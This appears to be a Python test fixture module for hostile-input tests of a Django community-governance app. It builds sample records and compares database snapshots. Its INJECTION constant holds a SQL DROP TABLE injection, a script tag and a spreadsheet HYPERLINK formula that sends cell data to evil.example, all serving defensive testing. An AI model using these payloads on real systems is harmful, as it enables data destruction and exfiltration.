"""The small world the hostile-input tests attack: one of each thing a page or an endpoint can
be about, in 江汉北路社区 (``north``), and what "nothing changed" means (``snapshot``)."""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass
from typing import Any

from django.apps import apps
from django.db import connection
from django.utils import timezone

# 100,000 characters: the description that held SQLite's write lock for 23-47 s (issue 8).
OVERLONG = "漏" * 100_000
NUL = "邻居\x00漏水"
CONTROL = "楼上\x1b[31m漏水\u202eabc\u200f"
INJECTION = ("'; DROP TABLE cases_case; -- \" OR 1=1 <script>alert(1)</script> "
             "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此\") 邻\" * ( - 漏")
SCRIPT = "<script>alert(1)</script>"
FAR_DATES = ("0001-01-01", "9999-12-31")
HUGE = "99999999999999999999"
NEGATIVE = "-1"

# Rows that a refused request may still write: the log-in bookkeeping, sessions, the audit log,
# rate-limit counts and the cache. Everything else must stay as it was.
BOOKKEEPING = {"sessions.session", "audit.entry", "core.ratecounter", "accounts.loginfailure",
               "django_tasks_database.dbtaskresult", "ops.scheduledjob", "accounts.apitoken",
               "contenttypes.contenttype", "auth.permission", "admin.logentry"}


@dataclass
class World:
    case: Any
    activity: Any
    person: Any
    unit: Any
    agreement: Any
    responsibility_list: Any
    item: Any
    exam: Any = None

    def ids(self) -> dict[str, int]:
        return {"case": self.case.pk, "activity": self.activity.pk, "person": self.person.pk,
                "unit": self.unit.pk, "agreement": self.agreement.pk,
                "list": self.responsibility_list.pk, "item": self.item.pk}


def build(*, north: Any, subdistrict: Any, worker: Any, street_admin: Any) -> World:
    from fazhi.accounts.services import api_token_create
    from fazhi.cases.services import case_accept, extension_request
    from fazhi.cases.tests.factories import make_case
    from fazhi.core.models import CalendarOverride
    from fazhi.org.models import Agreement, Person, Unit
    from fazhi.org.services import duty_slot_create, person_secret_columns
    from fazhi.outreach.models import ResponsibilityList
    from fazhi.outreach.tests.conftest import add_item, make_activity

    case = make_case(worker, north)
    make_case(worker, north, kind="appeal", category="utilities")
    pending = make_case(worker, north)
    case_accept(actor=street_admin, case=pending, expected_version=pending.version)
    extension_request(actor=worker, case=pending, days=10, reason="需要现场勘查")
    CalendarOverride.objects.create(date=dt.date(2026, 10, 10), is_workday=True, note="调休上班")
    api_token_create(user=street_admin, name="脚本", second_factor_passed=True)
    now = timezone.now()
    activity = make_activity(community=north, starts_at=now - dt.timedelta(minutes=10),
                             ends_at=now + dt.timedelta(hours=2), code="hostile0001")
    unit = Unit.objects.create(name="江汉北路社区综治工作室", kind=Unit.Kind.COMMUNITY_WORKROOM,
                               region=north)
    member = Unit.objects.create(name="西马派出所", kind=Unit.Kind.POLICE_STATION,
                                 region=subdistrict, is_member_unit=True)
    person = Person.objects.create(name="张伟", kind=Person.Kind.LAWYER, community=north, unit=unit,
                                   **person_secret_columns(id_number="11010519491231002X",
                                                           mobile="13912345678"))
    agreement = Agreement.objects.create(
        title="共驻共建协议", region=north, signed_on=dt.date(2026, 1, 5),
        starts_on=dt.date(2026, 1, 10), ends_on=dt.date(2026, 12, 31))
    agreement.parties.set([unit])
    duty_slot_create(actor=street_admin, person=person, community=north, weekday=2,
                     start=dt.time(9), end=dt.time(11))
    responsibility_list = ResponsibilityList.objects.create(unit=member, year=2026)
    item = add_item(responsibility_list)
    _assessments(worker, street_admin)
    return World(case=case, activity=activity, person=person, unit=unit, agreement=agreement,
                 responsibility_list=responsibility_list, item=item,
                 exam=_exams(street_admin, unit, now))


def _exams(street_admin: Any, unit: Any, now: dt.datetime) -> Any:
    """A bank, a draft exam and an exam open now for ``unit``, whose cadre (``examcadre``) has a
    passed paper (a certificate) and an open one."""
    from conftest import make_user
    from fazhi.core.roles import Role
    from fazhi.exams.models import Bank
    from fazhi.exams.services.exams import exam_create, exam_publish
    from fazhi.exams.services.questions import QuestionData, question_add, question_check
    from fazhi.exams.services.sitting import answer_save, attempt_start, attempt_submit

    bank = Bank.objects.create(name="年度学法考试题库")
    for i, (kind, options, answer) in enumerate([
            ("fill", [], ["人民"]), ("single", ["人民", "政府"], [0]),
            ("true_false", [], [0]), ("multiple", ["甲", "乙", "丙"], [0, 1])]):
        question_add(bank=bank, actor=None, data=question_check(QuestionData(
            kind=kind, stem=f"第{i + 1}题：中华人民共和国的一切权力属于谁？", options=options,
            answer=answer, law="宪法", article="第二条", explanation="宪法第二条。")))
    cadre = make_user("examcadre", Role.MEDIATOR, unit.region, unit_id=unit.pk,
                      display_name="周文静")
    rules = [{"kind": k, "law": "", "difficulty": 0, "count": 1}
             for k in ("fill", "single", "true_false", "multiple")]
    window = {"opens_at": now - dt.timedelta(hours=1), "closes_at": now + dt.timedelta(days=3),
              "duration_minutes": 60, "max_attempts": 3, "rules": rules,
              "points": {"single": 2, "multiple": 2, "true_false": 2, "fill": 2}}
    # The draft opens later, so an organiser's list (latest first) leads to it and its
    # publish form.
    exam_create(actor=street_admin, bank=bank, title="草稿考试", unit_ids=[unit.pk],
                **{**window, "opens_at": now + dt.timedelta(hours=1)})
    exam = exam_create(actor=street_admin, bank=bank, title="2026年度学法考试",
                       unit_ids=[unit.pk], **window)
    exam_publish(actor=street_admin, exam=exam, expected_version=exam.version)
    exam.refresh_from_db()
    first = attempt_start(actor=cadre, exam=exam)
    for item in first.items.select_related("question_version"):
        right = item.question_version.answer
        given = right[0] if isinstance(right[0], str) else (
            [item.permutation.index(a) for a in right] if len(right) > 1
            else item.permutation.index(right[0]))
        answer_save(actor=cadre, attempt_id=first.pk, position=item.position, answer=given,
                    seq=1, paper_version=first.version)
    attempt_submit(actor=cadre, attempt_id=first.pk, expected_version=first.version)
    attempt_start(actor=cadre, exam=exam)
    return exam


def _assessments(worker: Any, street_admin: Any) -> None:
    """Two model-community cycles: 2027's tree still open to edits (its pages and forms are
    the administrator's), 2025's cut to two items (one from records, one by hand) with north's self-assessment submitted (its
    review forms); the worker's own forms are walked in fazhi/assessments/tests."""
    import io

    from django.core.files.uploadedfile import SimpleUploadedFile
    from PIL import Image

    from fazhi.assessments import services as a

    cycle = a.cycle_create(actor=street_admin, title="2025—2026年度", first_year=2025)
    for item in [i for n, i in enumerate(cycle.indicators.all()) if n not in (0, 3)]:
        cycle.refresh_from_db()
        a.indicator_delete(actor=street_admin, indicator=item,
                           expected_tree_version=cycle.tree_version)
    cycle.refresh_from_db()
    a.cycle_create(actor=street_admin, title="2027—2028年度", first_year=2027)
    assessment = a.assessment_start(actor=worker, cycle=cycle)
    png = io.BytesIO()
    Image.new("RGB", (2, 2)).save(png, format="PNG")
    for score in assessment.scores.select_related("indicator").filter(
            indicator__method="manual"):
        a.score_self(actor=worker, score=score, expected_version=score.version,
                     self_score=score.indicator.weight)
        a.evidence_add(actor=worker, score=score, kind="file",
                       file=SimpleUploadedFile("p.png", png.getvalue()))
    a.assessment_submit(actor=worker, assessment=assessment, expected_version=1)


def snapshot() -> dict[str, list[tuple]]:
    """Every row of every table but the bookkeeping ones, in primary-key order, as the database
    returns them (plain SQL: the ORM's conversions made this most of the hostile walks' time)."""
    rows: dict[str, list[tuple]] = {}
    quote = connection.ops.quote_name
    with connection.cursor() as cursor:
        for model in apps.get_models():
            label = model._meta.label_lower
            if label in BOOKKEEPING or model._meta.proxy or not model._meta.managed:
                continue
            cursor.execute(f"SELECT * FROM {quote(model._meta.db_table)} "
                           f"ORDER BY {quote(model._meta.pk.column)}")
            rows[label] = cursor.fetchall()
    return rows


def differences(before: dict[str, list[tuple]], after: dict[str, list[tuple]]) -> list[str]:
    changed = []
    for label, rows in after.items():
        old = before.get(label, [])
        if rows != old:
            now_rows, old_rows = ({tuple(map(repr, r)) for r in side} for side in (rows, old))
            changed.append(f"{label} (+{len(now_rows - old_rows)} -{len(old_rows - now_rows)})")
    return changed
